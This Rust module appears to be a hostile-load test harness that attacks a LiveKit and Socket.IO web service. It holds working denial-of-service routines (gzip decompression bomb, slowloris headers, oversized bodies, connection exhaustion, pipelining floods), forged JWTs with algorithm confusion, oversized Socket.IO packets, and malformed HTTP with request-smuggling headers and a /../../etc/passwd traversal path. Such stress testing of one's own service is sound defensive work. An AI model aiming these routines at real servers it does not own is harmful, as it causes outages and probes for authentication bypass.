//! HTTP, by strangers.

use std::cell::Cell;
use std::io::Write as _;
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::{URL_SAFE, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::GzEncoder;
use futures_util::future::join_all;
use livekit_protocol as proto;
use prost::Message as _;
use tokio::io::AsyncWriteExt as _;
use tokio::time::{sleep, timeout};

use super::random_bytes;
use super::signalling::empty_elements;
use crate::hostile::scene::Scene;
use crate::hostile::stranger::{Line, TEXT, frame_head, get, post_head, upgrade};

/// Elements of a join request that inflates to a MiB.
const EMPTY_TRACKS: usize = 1 << 19;
/// Requests at a time, where each waits for its answer.
const ASKING: usize = 8;
/// Connections that are opened at a time.
const OPENING: usize = 64;
/// Bytes of a body or a head that are written at a time.
const WRITE: usize = 64 << 10;
/// Header that no server knows.
const FILLER: &str = "X-Filler: ";

/// Opens `count` connections, lets `act` use each, and holds them until the end.
pub(super) async fn hold(scene: &Scene<'_>, count: usize, act: impl AsyncFn(&mut Line) -> std::io::Result<()>) {
    let opened = Cell::new(0_usize);
    let open = || async {
        let mut lines = Vec::new();
        while opened.get() < count && scene.goes_on() {
            opened.set(opened.get() + 1);
            let Ok(mut line) = scene.line().await else { continue };
            scene.sent(0);
            if timeout(scene.left(Duration::MAX), act(&mut line)).await.is_ok_and(|acted| acted.is_err()) {
                scene.refused();
            } else {
                lines.push(line);
            }
        }
        sleep(scene.left(Duration::MAX)).await;
        lines
    };
    let mut lines: Vec<Line> = join_all((0..OPENING).map(|_| open())).await.into_iter().flatten().collect();
    let closed = lines.iter_mut().filter_map(|line| line.is_closed().then_some(())).count();
    scene.note(format!("of {} connections held, the server closed {closed}", lines.len()));
}

/// Writes `len` filler bytes.
pub(super) async fn fill(scene: &Scene<'_>, line: &mut Line, len: usize) -> std::io::Result<()> {
    let filler = [b'a'; WRITE];
    let mut left = len;
    while left > 0 {
        let part = left.min(WRITE);
        line.stream.write_all(&filler[..part]).await?;
        scene.sent(part);
        left -= part;
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Asks for the same again and again, on connections that are kept while the server keeps them.
async fn ask(scene: &Scene<'_>, request: impl Fn(u64) -> Vec<u8>) -> anyhow::Result<()> {
    let (request, until) = (&request, scene.until());
    let asking = (0..ASKING).map(|_| async move {
        while scene.goes_on() {
            let Ok(mut line) = scene.line().await else {
                sleep(Duration::from_millis(20)).await;
                continue;
            };
            while scene.goes_on() {
                let bytes = request(scene.next());
                scene.sent(bytes.len());
                match tokio::time::timeout_at(until, line.ask(&bytes)).await {
                    Ok(Ok(answer)) => scene.answered(answer.status),
                    Ok(Err(_)) => {
                        scene.refused();
                        break;
                    }
                    Err(_) => break,
                }
            }
            tokio::task::yield_now().await;
        }
    });
    join_all(asking).await;
    Ok(())
}

pub(in crate::hostile) async fn validate_gzip(scene: &Scene<'_>) -> anyhow::Result<()> {
    // The tracks are field 5.
    let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
    gzip.write_all(&empty_elements(5, EMPTY_TRACKS))?;
    let wrapped = proto::WrappedJoinRequest {
        compression: proto::wrapped_join_request::Compression::Gzip.into(),
        join_request: gzip.finish()?,
    };
    let wrapped = URL_SAFE.encode(wrapped.encode_to_vec()).replace('=', "%3D");
    let token = scene.token(&scene.room(0))?;
    let path = format!("/rtc/v1/validate?access_token={token}&join_request={wrapped}");
    let request = get(&scene.target, &path).into_bytes();
    ask(scene, |_| request.clone()).await
}

pub(in crate::hostile) async fn twirp_bodies(scene: &Scene<'_>) -> anyhow::Result<()> {
    const BODY: usize = 10 << 20;
    let kind = "Content-Type: application/json\r\n";
    let head = post_head(&scene.target, "/twirp/livekit.RoomService/ListRooms", kind, BODY);
    hold(scene, 60, async |line| {
        line.stream.write_all(head.as_bytes()).await?;
        fill(scene, line, BODY - 1).await
    })
    .await;
    Ok(())
}

pub(in crate::hostile) async fn request_heads(scene: &Scene<'_>) -> anyhow::Result<()> {
    let start = get(&scene.target, "/").replace("\r\n\r\n", "\r\n");
    hold(scene, 1_000, async |line| {
        line.stream.write_all(start.as_bytes()).await?;
        line.stream.write_all(FILLER.as_bytes()).await?;
        fill(scene, line, 390 << 10).await
    })
    .await;
    Ok(())
}

pub(in crate::hostile) async fn webhook_bodies(scene: &Scene<'_>) -> anyhow::Result<()> {
    const BODY: usize = 590 << 10;
    let headers = "Content-Type: application/webhook+json\r\nAuthorization: a.b.c\r\n";
    let head = post_head(&scene.target, "/api/webhooks/livekit", headers, BODY);
    hold(scene, 500, async |line| {
        line.stream.write_all(head.as_bytes()).await?;
        fill(scene, line, BODY - 1).await
    })
    .await;
    Ok(())
}

pub(in crate::hostile) async fn slow_heads(scene: &Scene<'_>) -> anyhow::Result<()> {
    let start = get(&scene.target, "/").replace("\r\n\r\n", "\r\n");
    let lines = (0..1_000).map(|number| {
        let start = &start;
        async move {
            // Not all in the same moment.
            sleep(Duration::from_millis(number)).await;
            let Ok(mut line) = scene.line().await else { return };
            if line.stream.write_all(start.as_bytes()).await.is_err() {
                return scene.refused();
            }
            while scene.goes_on() {
                scene.sent(1);
                if line.stream.write_all(b"a").await.is_err() || line.is_closed() {
                    return scene.refused();
                }
                sleep(scene.left(Duration::from_secs(1))).await;
            }
        }
    });
    join_all(lines).await;
    Ok(())
}

pub(in crate::hostile) async fn forged_tokens(scene: &Scene<'_>) -> anyhow::Result<()> {
    let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
    let claims = part(&format!(
        r#"{{"iss":"{}","sub":"ana","exp":4102444800,"video":{{"roomJoin":true,"room":"hostile"}}}}"#,
        scene.key.key
    ));
    let heads = [
        r#"{"alg":"HS256","typ":"JWT"}"#,
        r#"{"alg":"RS256","typ":"JWT","kid":"none"}"#,
        r#"{"alg":"RS256","typ":"JWT"}"#,
        r#"{"alg":"ES256","typ":"JWT"}"#,
        r#"{"alg":"EdDSA","typ":"JWT"}"#,
    ]
    .map(part);
    let host = format!("{}:{}", scene.target.host, scene.target.port);
    ask(scene, |number| {
        let signature = random_bytes(if number % 5 == 0 { 32 } else { 256 });
        let token = format!("{}.{claims}.{}", heads[number as usize % heads.len()], URL_SAFE_NO_PAD.encode(signature));
        match number % 3 {
            0 => get(&scene.target, &format!("/rtc/validate?access_token={token}")),
            1 => format!("GET /api/live/mine HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\r\n"),
            _ => {
                let headers = format!("Content-Type: application/json\r\nAuthorization: Bearer {token}\r\n");
                post_head(&scene.target, "/twirp/livekit.RoomService/ListRooms", &headers, 2) + "{}"
            }
        }
        .into_bytes()
    })
    .await
}

pub(in crate::hostile) async fn idle_connections(scene: &Scene<'_>) -> anyhow::Result<()> {
    hold(scene, 5_000, async |_| Ok(())).await;
    Ok(())
}

pub(in crate::hostile) async fn websocket_upgrades(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut first = scene.line().await?;
    let answer = first.ask(get(&scene.target, "/socket.io/?EIO=4&transport=polling").as_bytes()).await?;
    scene.answered(answer.status);
    let text = String::from_utf8_lossy(&answer.body).into_owned();
    let Some(sid) = text.split("\"sid\":\"").nth(1).and_then(|rest| rest.split('"').next()) else {
        scene.note("no Socket.IO there");
        return Ok(());
    };
    let request = upgrade(&scene.target, &format!("/socket.io/?EIO=4&transport=websocket&sid={sid}"));
    hold(scene, 2_000, async |line| {
        let answer = line.ask(request.as_bytes()).await?;
        scene.answered(answer.status);
        if answer.status == 101 { Ok(()) } else { Err(std::io::ErrorKind::ConnectionRefused.into()) }
    })
    .await;
    Ok(())
}

/// Socket.IO sessions, a new one with each request.
pub(in crate::hostile) async fn polling_sessions(scene: &Scene<'_>) -> anyhow::Result<()> {
    let request = get(&scene.target, "/socket.io/?EIO=4&transport=polling").into_bytes();
    ask(scene, |_| request.clone()).await
}

/// A socket of the chat that sends packets of every shape (engine.io 4, Socket.IO 5).
pub(in crate::hostile) async fn chat_packets(scene: &Scene<'_>) -> anyhow::Result<()> {
    let path = "/socket.io/?EIO=4&transport=websocket";
    let deep = format!("42/live:x,[\"chat:message\",{}{}]", "[".repeat(20_000), "]".repeat(20_000));
    let packets: Vec<String> = [
        "40/live:x,".to_owned(),
        format!("40/live:x,{{\"token\":\"{}\"}}", "x".repeat(60_000)),
        format!("40/{},", "y".repeat(60_000)),
        deep,
        "42/live:x,18446744073709551616[\"chat:message\",{\"text\":\"x\"}]".to_owned(),
        "459999999-/live:x,[\"chat:message\",{\"_placeholder\":true,\"num\":0}]".to_owned(),
        "2probe".to_owned(),
        "3".to_owned(),
        "5".to_owned(),
        "6".to_owned(),
        "4".to_owned(),
        "9".to_owned(),
    ]
    .into_iter()
    .collect();
    let attackers = (0..ASKING).map(|_| async {
        while scene.goes_on() {
            let Ok(mut line) = scene.line().await else { continue };
            let Ok(answer) = line.ask(upgrade(&scene.target, path).as_bytes()).await else { continue };
            scene.answered(answer.status);
            if answer.status != 101 {
                return scene.note("no Socket.IO there");
            }
            while scene.goes_on() && !line.is_closed() {
                let packet = &packets[rand::random_range(0..packets.len())];
                scene.sent(packet.len());
                if line
                    .stream
                    .write_all(&[&frame_head(TEXT, packet.len())[..], packet.as_bytes()].concat())
                    .await
                    .is_err()
                {
                    break;
                }
                tokio::task::yield_now().await;
            }
            scene.refused();
        }
    });
    join_all(attackers).await;
    Ok(())
}

/// Requests one behind the other, whose answers nobody reads.
pub(in crate::hostile) async fn pipeline(scene: &Scene<'_>) -> anyhow::Result<()> {
    let requests = get(&scene.target, "/openapi.json").repeat(200).into_bytes();
    hold(scene, 200, async |line| {
        loop {
            line.stream.write_all(&requests).await?;
            scene.sent(requests.len());
            tokio::task::yield_now().await;
        }
    })
    .await;
    Ok(())
}

pub(in crate::hostile) async fn http_noise(scene: &Scene<'_>) -> anyhow::Result<()> {
    let paths = ["/", "/rtc", "/rtc/v1", "/rtc/validate", "/twirp/livekit.RoomService/CreateRoom", "/api/live/active"];
    let paths: Vec<_> =
        paths.iter().chain(&["/socket.io/?EIO=4&transport=polling", "/%00", "/../../etc/passwd", "*"]).collect();
    ask(scene, |number| {
        let path = paths[number as usize % paths.len()];
        let host = &scene.target.host;
        match rand::random_range(0..8) {
            0 => random_bytes(rand::random_range(1..2_000)),
            1 => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nHost: other\r\nContent-Length: -1\r\n\r\n").into_bytes(),
            2 => format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n")
                .into_bytes(),
            3 => format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n")
                .into_bytes(),
            4 => format!("GET {path}?{} HTTP/1.1\r\nHost: {host}\r\n\r\n", "%ff&".repeat(500)).into_bytes(),
            5 => format!("OPTIONS {path} HTTP/1.1\r\nHost: \r\nOrigin: null\r\nAccess-Control-Request-Method: X\r\n\r\n")
                .into_bytes(),
            6 => b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            _ => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\n\r\n", "..".repeat(2_000))
                .into_bytes(),
        }
    })
    .await
}
